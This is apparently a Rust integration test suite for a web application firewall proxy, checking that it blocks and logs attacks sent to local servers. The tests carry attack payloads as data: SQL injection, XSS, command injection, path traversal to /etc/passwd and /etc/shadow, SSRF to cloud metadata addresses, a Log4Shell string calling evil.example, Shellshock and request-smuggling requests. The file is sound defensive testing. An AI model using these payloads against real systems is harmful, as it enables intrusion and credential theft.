//! The WAAS reverse proxy with real HTTP clients (hyper HTTP/1.1 and h2c, curl, raw TCP for
//! protocol abuse) in front of a real upstream server, every server on 127.0.0.1:0. Each
//! protection is exercised end to end: status code, what the upstream saw, and the WaasEvent
//! that reached the event sink.

use std::convert::Infallible;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use defender::observe::EventSink;
use defender::waas::{Proxy, ProxyLimits};
use defender_proto::v1::{Event, WaasEvent, event};
use defender_waas::WaasPolicy;
use http_body_util::{BodyExt, Full};
use hyper::body::{Bytes, Incoming};
use hyper::{Request, Response, StatusCode};
use hyper_util::rt::{TokioExecutor, TokioIo};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

/// Collects events.
#[derive(Default)]
struct Sink(Mutex<Vec<Event>>);

impl EventSink for Sink {
    fn push_event(&self, e: Event) -> Option<u64> {
        self.0.lock().unwrap().push(e);
        None
    }
}

impl Sink {
    fn waas(&self) -> Vec<WaasEvent> {
        self.0
            .lock()
            .unwrap()
            .iter()
            .filter_map(|e| match &e.kind {
                Some(event::Kind::Waas(w)) => Some(w.clone()),
                _ => None,
            })
            .collect()
    }
}

/// Upstream app: answers `method path xff=… body=<len>`; upgrades `Upgrade: websocket` and
/// echoes bytes.
async fn upstream() -> SocketAddr {
    let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = l.local_addr().unwrap();
    tokio::spawn(async move {
        loop {
            let (s, _) = l.accept().await.unwrap();
            tokio::spawn(async move {
                let svc = hyper::service::service_fn(|mut req: Request<Incoming>| async move {
                    if req.headers().contains_key("upgrade") {
                        let on = hyper::upgrade::on(&mut req);
                        tokio::spawn(async move {
                            if let Ok(up) = on.await {
                                let mut io = TokioIo::new(up);
                                let mut buf = [0u8; 64];
                                while let Ok(n) = io.read(&mut buf).await {
                                    if n == 0 || io.write_all(&buf[..n]).await.is_err() {
                                        break;
                                    }
                                }
                            }
                        });
                        let mut r = Response::new(Full::new(Bytes::new()));
                        *r.status_mut() = StatusCode::SWITCHING_PROTOCOLS;
                        r.headers_mut()
                            .insert("upgrade", "websocket".parse().unwrap());
                        r.headers_mut()
                            .insert("connection", "upgrade".parse().unwrap());
                        return Ok::<_, Infallible>(r);
                    }
                    let xff = req
                        .headers()
                        .get("x-forwarded-for")
                        .map(|v| v.to_str().unwrap().to_owned())
                        .unwrap_or_default();
                    let head = format!("{} {}", req.method(), req.uri());
                    let body = req
                        .into_body()
                        .collect()
                        .await
                        .map(|b| b.to_bytes())
                        .unwrap_or_default();
                    Ok(Response::new(Full::new(Bytes::from(format!(
                        "{head} xff={xff} body={}",
                        body.len()
                    )))))
                });
                let _ = hyper_util::server::conn::auto::Builder::new(TokioExecutor::new())
                    .serve_connection_with_upgrades(TokioIo::new(s), svc)
                    .await;
            });
        }
    });
    addr
}

struct Fixture {
    proxy: Proxy,
    sink: Arc<Sink>,
}

async fn fixture(policy: &str) -> Fixture {
    fixture_with(policy, ProxyLimits::default(), None).await
}

async fn fixture_with(policy: &str, limits: ProxyLimits, up: Option<SocketAddr>) -> Fixture {
    let up = match up {
        Some(u) => u,
        None => upstream().await,
    };
    let sink = Arc::new(Sink::default());
    let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let proxy = Proxy::start(
        l,
        up,
        WaasPolicy::from_json(policy).unwrap(),
        sink.clone(),
        limits,
    );
    Fixture { proxy, sink }
}

/// One HTTP/1.1 request with hyper's client; returns status, body and headers.
async fn send(
    addr: SocketAddr,
    method: &str,
    target: &str,
    headers: &[(&str, &str)],
    body: &str,
) -> (u16, String, hyper::HeaderMap) {
    let s = TcpStream::connect(addr).await.unwrap();
    let (mut tx, conn) = hyper::client::conn::http1::handshake(TokioIo::new(s))
        .await
        .unwrap();
    tokio::spawn(conn);
    let mut b = Request::builder()
        .method(method)
        .uri(target)
        .header("host", "app.example");
    for (k, v) in headers {
        b = b.header(*k, *v);
    }
    let r = tx
        .send_request(b.body(Full::new(Bytes::from(body.to_owned()))).unwrap())
        .await
        .unwrap();
    let status = r.status().as_u16();
    let h = r.headers().clone();
    let text =
        String::from_utf8_lossy(&r.into_body().collect().await.unwrap().to_bytes()).into_owned();
    (status, text, h)
}

fn event_id(body: &str) -> &str {
    body.rsplit("Event id: ").next().unwrap().trim()
}

#[tokio::test]
async fn sql_injection_gets_403_with_an_event_id_and_the_event_says_where() {
    let f = fixture("{}").await;
    let addr = f.proxy.local_addr();
    let (s, body, h) = send(addr, "GET", "/items?id=1%27%20OR%20%271%27%3D%271", &[], "").await;
    assert_eq!(s, 403, "{body}");
    let id = event_id(&body).to_owned();
    assert_eq!(id.len(), 16, "{body}");
    assert_eq!(h.get("x-waas-event-id").unwrap(), id.as_str());
    let ev = f.sink.waas();
    assert_eq!(ev.len(), 1);
    let e = &ev[0];
    assert_eq!(e.event_id, id);
    assert_eq!(e.family, "sqli");
    assert!(e.rule.starts_with("sqli-"), "{e:?}");
    assert_eq!((e.location.as_str(), e.name.as_str()), ("query", "id"));
    assert_eq!(e.effect, "prevent");
    assert_eq!(e.status, 403);
    assert_eq!(e.client_ip, "127.0.0.1");
    assert_eq!(e.method, "GET");
    assert!(e.path.starts_with("/items?id="));
    // Benign traffic passes, with X-Forwarded-For appended.
    let (s, body, _) = send(
        addr,
        "GET",
        "/search?q=O%27Brien",
        &[("x-forwarded-for", "198.51.100.4")],
        "",
    )
    .await;
    assert_eq!(s, 200, "{body}");
    assert_eq!(
        body,
        "GET /search?q=O%27Brien xff=198.51.100.4, 127.0.0.1 body=0"
    );
    assert_eq!(f.sink.waas().len(), 1);
}

#[tokio::test]
async fn every_injection_family_is_prevented_where_it_hides() {
    let f = fixture("{}").await;
    let a = f.proxy.local_addr();
    let form = [("content-type", "application/x-www-form-urlencoded")];
    let json = [("content-type", "application/json")];
    type Case<'a> = (
        &'a str,
        &'a str,
        Vec<(&'a str, &'a str)>,
        &'a str,
        &'a str,
        &'a str,
    );
    let cases: Vec<Case> = vec![
        (
            "POST",
            "/comment",
            form.to_vec(),
            "text=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            "xss",
            "body",
        ),
        (
            "POST",
            "/api/run",
            json.to_vec(),
            r#"{"host":"8.8.8.8 && whoami"}"#,
            "cmdi",
            "body",
        ),
        (
            "GET",
            "/download?file=..%2F..%2F..%2Fetc%2Fpasswd",
            vec![],
            "",
            "lfi",
            "query",
        ),
        (
            "GET",
            "/download?file=%252e%252e%252f%252e%252e%252fetc%252fshadow",
            vec![],
            "",
            "lfi",
            "query",
        ),
        (
            "GET",
            "/fetch?url=http://169.254.169.254/latest/meta-data/",
            vec![],
            "",
            "ssrf",
            "query",
        ),
        (
            "GET",
            "/fetch?url=http://169.254.170.2/v2/credentials/x",
            vec![],
            "",
            "ssrf",
            "query",
        ),
        (
            "GET",
            "/",
            vec![("user-agent", "${jndi:ldap://evil.example/a}")],
            "",
            "java",
            "header",
        ),
        (
            "GET",
            "/cgi-bin/x",
            vec![("referer", "() { :; }; /bin/bash -c id")],
            "",
            "shellshock",
            "header",
        ),
        (
            "GET",
            "/p",
            vec![("cookie", "sid=1' UNION SELECT password FROM users--")],
            "",
            "sqli",
            "cookie",
        ),
    ];
    for (m, t, h, b, family, location) in cases {
        let before = f.sink.waas().len();
        let (s, body, _) = send(a, m, t, &h, b).await;
        assert_eq!(s, 403, "{family} {t}: {body}");
        let ev = f.sink.waas();
        assert_eq!(ev.len(), before + 1, "{family}");
        let e = ev.last().unwrap();
        assert_eq!(e.family, family, "{e:?}");
        assert_eq!(e.location, location, "{e:?}");
        assert_eq!(e.event_id, event_id(&body));
    }
}

#[tokio::test]
async fn alert_passes_scanner_is_seen_and_exceptions_silence_a_rule_under_a_path() {
    let f = fixture(
        r#"{"protections":{"sqli":"alert"},
            "exceptions":[{"rule_id":"xss","path_prefix":"/cms/"}]}"#,
    )
    .await;
    let a = f.proxy.local_addr();
    let (s, _, _) = send(
        a,
        "GET",
        "/q?id=1%20UNION%20SELECT%20password%20FROM%20users",
        &[],
        "",
    )
    .await;
    assert_eq!(s, 200);
    let e = f.sink.waas().pop().unwrap();
    assert_eq!(
        (e.family.as_str(), e.effect.as_str(), e.status),
        ("sqli", "alert", 0)
    );
    // Scanners alert by default.
    let (s, _, _) = send(a, "GET", "/", &[("user-agent", "sqlmap/1.8#stable")], "").await;
    assert_eq!(s, 200);
    assert_eq!(f.sink.waas().pop().unwrap().family, "scanner");
    // XSS silenced under /cms/, not elsewhere.
    let n = f.sink.waas().len();
    let (s, _, _) = send(
        a,
        "GET",
        "/cms/page?html=%3Cscript%3Ealert(1)%3C/script%3E",
        &[],
        "",
    )
    .await;
    assert_eq!(s, 200);
    assert_eq!(f.sink.waas().len(), n);
    let (s, _, _) = send(
        a,
        "GET",
        "/blog?html=%3Cscript%3Ealert(1)%3C/script%3E",
        &[],
        "",
    )
    .await;
    assert_eq!(s, 403);
}

#[tokio::test]
async fn access_control_by_cidr_method_and_trusted_forwarded_for() {
    let f = fixture(r#"{"access":{"allowed_methods":["GET","POST"]}}"#).await;
    let (s, _, _) = send(f.proxy.local_addr(), "DELETE", "/x", &[], "").await;
    assert_eq!(s, 403);
    assert_eq!(f.sink.waas().pop().unwrap().rule, "access-130");

    // The client behind a trusted proxy is judged, not the proxy.
    let f = fixture(
        r#"{"access":{"denied_cidrs":["203.0.113.0/24"]},"trusted_proxies":["127.0.0.0/8"]}"#,
    )
    .await;
    let a = f.proxy.local_addr();
    let (s, _, _) = send(a, "GET", "/", &[("x-forwarded-for", "203.0.113.9")], "").await;
    assert_eq!(s, 403);
    let e = f.sink.waas().pop().unwrap();
    assert_eq!(
        (e.rule.as_str(), e.client_ip.as_str(), e.family.as_str()),
        ("access-110", "203.0.113.9", "access")
    );
    let (s, _, _) = send(a, "GET", "/", &[("x-forwarded-for", "198.51.100.1")], "").await;
    assert_eq!(s, 200);

    // Without trusted proxies, X-Forwarded-For is not believed (no spoofing past the deny list).
    let f = fixture(r#"{"access":{"denied_cidrs":["127.0.0.0/8"]}}"#).await;
    let a = f.proxy.local_addr();
    let (s, _, _) = send(a, "GET", "/", &[("x-forwarded-for", "198.51.100.1")], "").await;
    assert_eq!(s, 403);
}

#[tokio::test]
async fn rate_limit_with_burst_then_429_and_bans_after_prevent() {
    let f =
        fixture(r#"{"rate_limit":{"requests_per_second":1,"burst":3,"effect":"prevent"}}"#).await;
    let a = f.proxy.local_addr();
    for _ in 0..3 {
        assert_eq!(send(a, "GET", "/", &[], "").await.0, 200);
    }
    let (s, body, _) = send(a, "GET", "/", &[], "").await;
    assert_eq!(s, 429, "{body}");
    assert_eq!(f.sink.waas().pop().unwrap().rule, "ratelimit-110");

    let f = fixture(r#"{"protections":{"xss":"ban"},"ban":{"minutes":5}}"#).await;
    let a = f.proxy.local_addr();
    assert_eq!(
        send(a, "GET", "/?a=%3Cscript%3Ealert(1)%3C/script%3E", &[], "")
            .await
            .0,
        403
    );
    let (s, body, _) = send(a, "GET", "/harmless", &[], "").await;
    assert_eq!(s, 403);
    assert!(body.contains("banned"), "{body}");

    // The refused request's event has effect ban and says so (one event: the refusal counts
    // once in the Console).
    let ev = f.sink.waas();
    assert_eq!(ev.len(), 1, "{ev:?}");
    assert_eq!(
        (ev[0].family.as_str(), ev[0].effect.as_str()),
        ("xss", "ban")
    );
    assert_eq!(ev[0].status, 403);
    assert!(
        ev[0]
            .message
            .starts_with("client banned for 5 minutes (the rule's effect is ban)"),
        "{:?}",
        ev[0]
    );

    let f = fixture(r#"{"ban":{"minutes":5,"after_prevents":2,"window_seconds":60}}"#).await;
    let a = f.proxy.local_addr();
    assert_eq!(send(a, "GET", "/", &[], "").await.0, 200);
    assert_eq!(send(a, "GET", "/?f=../../etc/passwd", &[], "").await.0, 403);
    assert_eq!(send(a, "GET", "/", &[], "").await.0, 200);
    assert!(
        f.sink.waas().iter().all(|e| e.effect == "prevent"),
        "no ban yet"
    );
    let (s, body, _) = send(a, "GET", "/?f=../../etc/passwd", &[], "").await;
    assert_eq!(s, 403);
    let ev = f.sink.waas();
    assert_eq!(ev.len(), 2, "{ev:?}");
    let ban = &ev[1];
    assert_eq!((ban.family.as_str(), ban.effect.as_str()), ("lfi", "ban"));
    assert_eq!((ban.client_ip.as_str(), ban.status), ("127.0.0.1", 403));
    assert_eq!(event_id(&body), ban.event_id);
    assert!(
        ban.message
            .starts_with("client banned for 5 minutes (2 prevent verdicts within 60 s)"),
        "{ban:?}"
    );
    // While banned, even harmless requests are refused (counted, not each an event).
    let events = f.sink.waas().len();
    for _ in 0..3 {
        let (s, body, _) = send(a, "GET", "/", &[], "").await;
        assert_eq!(s, 403);
        assert!(body.contains("banned"), "{body}");
    }
    assert_eq!(f.sink.waas().len(), events);
    let stats = f.proxy.stats();
    assert_eq!(stats.bans.load(std::sync::atomic::Ordering::Relaxed), 1);
    assert_eq!(stats.banned.load(std::sync::atomic::Ordering::Relaxed), 3);
}

#[tokio::test]
async fn upstream_down_gives_502_and_the_proxy_stays_up() {
    let dead = TcpListener::bind("127.0.0.1:0")
        .await
        .unwrap()
        .local_addr()
        .unwrap();
    let f = fixture_with("{}", ProxyLimits::default(), Some(dead)).await;
    let a = f.proxy.local_addr();
    assert_eq!(send(a, "GET", "/", &[], "").await.0, 502);
    assert_eq!(send(a, "GET", "/", &[], "").await.0, 502);
    assert_eq!(
        f.proxy
            .stats()
            .upstream_errors
            .load(std::sync::atomic::Ordering::Relaxed),
        2
    );
}

#[tokio::test]
async fn bodies_stream_past_the_inspection_prefix_and_keep_alive_reuses_connections() {
    let f = fixture(r#"{"inspect_body_bytes":1024}"#).await;
    let a = f.proxy.local_addr();
    // 200 KB body: inspected prefix, the rest streamed; upstream receives every byte.
    let big = "a=".to_owned() + &"x".repeat(200_000);
    let (s, body, _) = send(
        a,
        "POST",
        "/upload",
        &[("content-type", "application/x-www-form-urlencoded")],
        &big,
    )
    .await;
    assert_eq!(s, 200);
    assert!(body.ends_with(&format!("body={}", big.len())), "{body}");
    // An attack beyond the prefix is not seen (the event-less pass is the documented limit)...
    let late = format!("a={}&b=%3Cscript%3Ealert(1)%3C/script%3E", "x".repeat(4000));
    assert_eq!(
        send(
            a,
            "POST",
            "/f",
            &[("content-type", "application/x-www-form-urlencoded")],
            &late
        )
        .await
        .0,
        200
    );
    // ...one inside it is.
    let early = format!("b=%3Cscript%3Ealert(1)%3C/script%3E&a={}", "x".repeat(4000));
    assert_eq!(
        send(
            a,
            "POST",
            "/f",
            &[("content-type", "application/x-www-form-urlencoded")],
            &early
        )
        .await
        .0,
        403
    );
    assert!(f.sink.waas().last().unwrap().incomplete);

    // Chunked request body through a keep-alive connection: many requests, one connection.
    let s = TcpStream::connect(a).await.unwrap();
    let (mut tx, conn) = hyper::client::conn::http1::handshake(TokioIo::new(s))
        .await
        .unwrap();
    tokio::spawn(conn);
    let before = f
        .proxy
        .stats()
        .connections
        .load(std::sync::atomic::Ordering::Relaxed);
    for i in 0..20 {
        tx.ready().await.unwrap();
        let body = http_body_util::StreamBody::new(futures_stream(i));
        let req = Request::post("/chunked")
            .header("host", "x")
            .body(body)
            .unwrap();
        let r = tx.send_request(req).await.unwrap();
        assert_eq!(r.status(), 200);
        let t = r.into_body().collect().await.unwrap().to_bytes();
        assert!(
            String::from_utf8_lossy(&t).ends_with(&format!("body={}", 3 * (i + 1))),
            "{t:?}"
        );
    }
    assert_eq!(
        f.proxy
            .stats()
            .connections
            .load(std::sync::atomic::Ordering::Relaxed),
        before + 1
    );
}

/// Three data frames of `i + 1` bytes each (a chunked body: no length known in advance).
fn futures_stream(
    i: usize,
) -> tokio_stream::Iter<std::vec::IntoIter<Result<hyper::body::Frame<Bytes>, Infallible>>> {
    let frames: Vec<_> = (0..3)
        .map(|_| Ok(hyper::body::Frame::data(Bytes::from(vec![b'z'; i + 1]))))
        .collect();
    tokio_stream::iter(frames)
}

/// Writes `raw` on a new connection and reads until the proxy closes it (or 5 s).
async fn raw_exchange(a: SocketAddr, raw: &[u8]) -> String {
    let mut s = TcpStream::connect(a).await.unwrap();
    let _ = s.write_all(raw).await;
    let mut resp = String::new();
    let deadline = Instant::now() + Duration::from_secs(5);
    while Instant::now() < deadline {
        let more = read_some(&mut s).await;
        if more.is_empty() {
            break;
        }
        resp.push_str(&more);
    }
    resp
}

/// Polls the sink until an event of `rule` arrives (events after a connection ends).
async fn wait_event(sink: &Sink, rule: &str) -> WaasEvent {
    let deadline = Instant::now() + Duration::from_secs(5);
    loop {
        if let Some(e) = sink.waas().into_iter().find(|e| e.rule == rule) {
            return e;
        }
        assert!(
            Instant::now() < deadline,
            "no {rule} event: {:?}",
            sink.waas()
        );
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
}

#[tokio::test]
async fn request_smuggling_is_answered_400_with_an_event() {
    let f = fixture("{}").await;
    let a = f.proxy.local_addr();
    // Content-Length with Transfer-Encoding (CL.TE and TE.CL orders): hyper would frame the
    // body by the chunked coding and drop the length; the proxy sees the raw head, answers 400
    // with an event id, closes, and the app sees nothing (no second, smuggled request either).
    for raw in [
        &b"POST /x HTTP/1.1\r\nHost: x\r\nContent-Length: 44\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin?smuggled=1 HTTP/1.1\r\nHost: x\r\n\r\n"[..],
        &b"POST /x HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Length: 44\r\n\r\n0\r\n\r\nGET /admin?smuggled=1 HTTP/1.1\r\nHost: x\r\n\r\n"[..],
    ] {
        let before = f.sink.waas().len();
        let resp = raw_exchange(a, raw).await;
        assert!(resp.starts_with("HTTP/1.1 400"), "{resp}");
        assert!(resp.contains("rule protocol-110"), "{resp}");
        assert!(!resp.contains("smuggled") && !resp.contains("xff="), "{resp}");
        assert_eq!(resp.matches("HTTP/1.1").count(), 1, "one answer: {resp}");
        let ev = f.sink.waas();
        assert_eq!(ev.len(), before + 1, "{ev:?}");
        let e = ev.last().unwrap();
        assert_eq!(
            (e.rule.as_str(), e.family.as_str(), e.effect.as_str()),
            ("protocol-110", "protocol", "prevent")
        );
        assert_eq!((e.status, e.method.as_str(), e.path.as_str()), (400, "POST", "/x"));
        assert_eq!(e.name, "Transfer-Encoding");
        assert!(resp.contains(&format!("Event id: {}", e.event_id)), "{resp}");
    }
    // Ordinary chunked requests on one keep-alive connection (the first body even spells a
    // Content-Length line) are not mistaken for smuggling.
    let resp = raw_exchange(
        a,
        b"POST /a HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n13\r\nContent-Length: 9\r\n\r\n0\r\n\r\n\
          POST /b HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n3\r\nabc\r\n0\r\n\r\n",
    )
    .await;
    assert!(resp.contains("POST /a xff=127.0.0.1 body=19"), "{resp}");
    assert!(resp.contains("POST /b xff=127.0.0.1 body=3"), "{resp}");
    assert!(!resp.contains("400"), "{resp}");

    // Under `alert` the request goes on, re-framed by hyper (chunked, connection closed after):
    // the bytes hidden behind the length never reach the app as a second request.
    let f = fixture(r#"{"protections":{"protocol":"alert"}}"#).await;
    let resp = raw_exchange(
        f.proxy.local_addr(),
        b"POST /x HTTP/1.1\r\nHost: x\r\nContent-Length: 44\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin?smuggled=1 HTTP/1.1\r\nHost: x\r\n\r\n",
    )
    .await;
    assert!(resp.starts_with("HTTP/1.1 200"), "{resp}");
    assert!(resp.contains("POST /x xff=127.0.0.1 body=0"), "{resp}");
    assert!(!resp.contains("smuggled"), "{resp}");
    let e = wait_event(&f.sink, "protocol-110").await;
    assert_eq!((e.effect.as_str(), e.status), ("alert", 0));
}

#[tokio::test]
async fn oversized_heads_are_answered_431_with_an_event() {
    let f = fixture(r#"{"max_header_bytes":4096}"#).await;
    let a = f.proxy.local_addr();
    // Within the limit: served.
    let (s, _, _) = send(a, "GET", "/", &[("x-note", &"a".repeat(3000))], "").await;
    assert_eq!(s, 200);
    // Over the limit (within hyper's buffer): 431 with an event id, never reaches the app.
    let (s, body, h) = send(a, "GET", "/big", &[("x-big", &"a".repeat(6000))], "").await;
    assert_eq!(s, 431, "{body}");
    let id = event_id(&body).to_owned();
    assert_eq!(h.get("x-waas-event-id").unwrap(), id.as_str());
    assert!(!body.contains("xff="), "{body}");
    let e = wait_event(&f.sink, "protocol-150").await;
    assert_eq!(e.event_id, id);
    assert_eq!(
        (e.status, e.family.as_str(), e.effect.as_str()),
        (431, "protocol", "prevent")
    );
    assert_eq!((e.method.as_str(), e.path.as_str()), ("GET", "/big"));
    assert!(e.matched.ends_with("bytes (limit 4096)"), "{e:?}");
    let size: usize = e.matched.split(' ').next().unwrap().parse().unwrap();
    assert!((6000..7000).contains(&size), "{e:?}");
    // Far over it (beyond hyper's buffer, twice the limit): hyper answers 431 and closes; the
    // event names the client.
    let big = format!(
        "GET /huge HTTP/1.1\r\nHost: x\r\nX-Big: {}\r\n\r\n",
        "a".repeat(64 * 1024)
    );
    let resp = raw_exchange(a, big.as_bytes()).await;
    assert!(
        resp.is_empty() || resp.starts_with("HTTP/1.1 431"),
        "{resp}"
    );
    let deadline = Instant::now() + Duration::from_secs(5);
    while f
        .sink
        .waas()
        .iter()
        .filter(|e| e.rule == "protocol-150")
        .count()
        < 2
    {
        assert!(Instant::now() < deadline, "{:?}", f.sink.waas());
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    let e = f
        .sink
        .waas()
        .into_iter()
        .rfind(|e| e.rule == "protocol-150")
        .unwrap();
    assert_eq!((e.status, e.client_ip.as_str()), (431, "127.0.0.1"));
    assert!(e.matched.starts_with("more than 8192 bytes"), "{e:?}");
    assert_eq!(
        f.proxy
            .stats()
            .oversized_heads
            .load(std::sync::atomic::Ordering::Relaxed),
        1
    );
    // The limit is the policy's: a disabled protocol family lets the 6 KB head through.
    let f = fixture(r#"{"max_header_bytes":4096,"protections":{"protocol":"disable"}}"#).await;
    let (s, _, _) = send(
        f.proxy.local_addr(),
        "GET",
        "/",
        &[("x-big", &"a".repeat(6000))],
        "",
    )
    .await;
    assert_eq!(s, 200);
    assert!(f.sink.waas().is_empty());
}

async fn read_some(s: &mut TcpStream) -> String {
    let mut buf = vec![0u8; 4096];
    let n = tokio::time::timeout(Duration::from_secs(5), s.read(&mut buf))
        .await
        .map(|r| r.unwrap_or(0))
        .unwrap_or(0);
    String::from_utf8_lossy(&buf[..n]).into_owned()
}

#[tokio::test]
async fn slow_loris_is_cut_at_the_head_timeout() {
    let limits = ProxyLimits {
        header_read_timeout: Duration::from_millis(300),
        ..ProxyLimits::default()
    };
    let f = fixture_with("{}", limits, None).await;
    let a = f.proxy.local_addr();
    for partial in [&b""[..], &b"GET / HTTP/1.1\r\nHost: x\r\nX-a: "[..]] {
        let mut s = TcpStream::connect(a).await.unwrap();
        s.write_all(partial).await.unwrap();
        let t = Instant::now();
        let mut buf = [0u8; 256];
        // The proxy closes (or answers 408) within a bounded time; never serves it.
        let r = tokio::time::timeout(Duration::from_secs(5), async {
            match s.read(&mut buf).await {
                Ok(0) | Err(_) => String::new(),
                Ok(n) => String::from_utf8_lossy(&buf[..n]).into_owned(),
            }
        })
        .await
        .expect("slow client still connected after 5 s");
        assert!(r.is_empty() || r.starts_with("HTTP/1.1 408"), "{r}");
        assert!(t.elapsed() < Duration::from_secs(3));
    }
}

#[tokio::test]
async fn websocket_upgrade_is_inspected_then_spliced() {
    let f = fixture("{}").await;
    let a = f.proxy.local_addr();
    // An attack in the handshake is refused.
    let mut s = TcpStream::connect(a).await.unwrap();
    s.write_all(b"GET /ws?room=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n")
        .await
        .unwrap();
    assert!(read_some(&mut s).await.starts_with("HTTP/1.1 403"));
    // A clean one is upgraded and bytes flow both ways.
    let mut s = TcpStream::connect(a).await.unwrap();
    s.write_all(b"GET /ws HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n")
        .await
        .unwrap();
    let head = read_some(&mut s).await;
    assert!(head.starts_with("HTTP/1.1 101"), "{head}");
    s.write_all(b"ping-frame").await.unwrap();
    let mut got = Vec::new();
    let deadline = Instant::now() + Duration::from_secs(5);
    while got.len() < 10 && Instant::now() < deadline {
        let mut buf = [0u8; 64];
        let n = tokio::time::timeout(Duration::from_secs(5), s.read(&mut buf))
            .await
            .unwrap()
            .unwrap();
        if n == 0 {
            break;
        }
        got.extend_from_slice(&buf[..n]);
    }
    assert_eq!(got, b"ping-frame");
}

#[tokio::test]
async fn h2c_clients_are_served_and_inspected() {
    let f = fixture("{}").await;
    let a = f.proxy.local_addr();
    let s = TcpStream::connect(a).await.unwrap();
    let (mut tx, conn) =
        hyper::client::conn::http2::handshake(TokioExecutor::new(), TokioIo::new(s))
            .await
            .unwrap();
    tokio::spawn(conn);
    let req = Request::get(format!("http://{a}/h2?q=hello"))
        .body(Full::new(Bytes::new()))
        .unwrap();
    let r = tx.send_request(req).await.unwrap();
    assert_eq!(r.status(), 200);
    let t = r.into_body().collect().await.unwrap().to_bytes();
    assert!(
        String::from_utf8_lossy(&t).starts_with("GET /h2?q=hello"),
        "{t:?}"
    );
    let req = Request::get(format!("http://{a}/h2?q=%3Cscript%3Ealert(1)%3C/script%3E"))
        .body(Full::new(Bytes::new()))
        .unwrap();
    assert_eq!(tx.send_request(req).await.unwrap().status(), 403);
}

#[tokio::test]
async fn curl_through_the_proxy() {
    let f = fixture("{}").await;
    let a = f.proxy.local_addr();
    let out = tokio::process::Command::new("curl")
        .args(["-s", "-o", "-", "-w", "\n%{http_code}", "-G"])
        .arg(format!("http://{a}/products"))
        .args(["--data-urlencode", "id=1' OR '1'='1"])
        .output()
        .await
        .expect("curl");
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(text.ends_with("\n403"), "{text}");
    assert!(text.contains("Event id: "), "{text}");
    let out = tokio::process::Command::new("curl")
        .args(["-s", "-o", "-", "-w", "\n%{http_code}"])
        .arg(format!("http://{a}/products?name=O%27Brien"))
        .output()
        .await
        .expect("curl");
    assert!(String::from_utf8_lossy(&out.stdout).ends_with("\n200"));
}

#[tokio::test]
async fn inspection_failure_follows_fail_open_or_fail_closed_and_is_reported() {
    let limits = ProxyLimits {
        fail_inspection_for_tests: true,
        ..ProxyLimits::default()
    };
    // Default: fail open (the request reaches the app), counted and reported.
    let f = fixture_with("{}", limits.clone(), None).await;
    let a = f.proxy.local_addr();
    let (s, body, _) = send(a, "GET", "/?q=%3Cscript%3E", &[], "").await;
    assert_eq!(s, 200, "{body}");
    assert_eq!(
        f.proxy
            .stats()
            .fail_open
            .load(std::sync::atomic::Ordering::Relaxed),
        1
    );
    let e = f.sink.waas().pop().unwrap();
    assert_eq!(
        (e.rule.as_str(), e.effect.as_str(), e.status),
        ("failopen-110", "alert", 0)
    );
    // fail_open false: 503 with an event id.
    let f = fixture_with(r#"{"fail_open":false}"#, limits, None).await;
    let (s, body, _) = send(f.proxy.local_addr(), "GET", "/", &[], "").await;
    assert_eq!(s, 503, "{body}");
    let e = f.sink.waas().pop().unwrap();
    assert_eq!(e.event_id, event_id(&body));
    assert_eq!((e.effect.as_str(), e.status), ("prevent", 503));
}
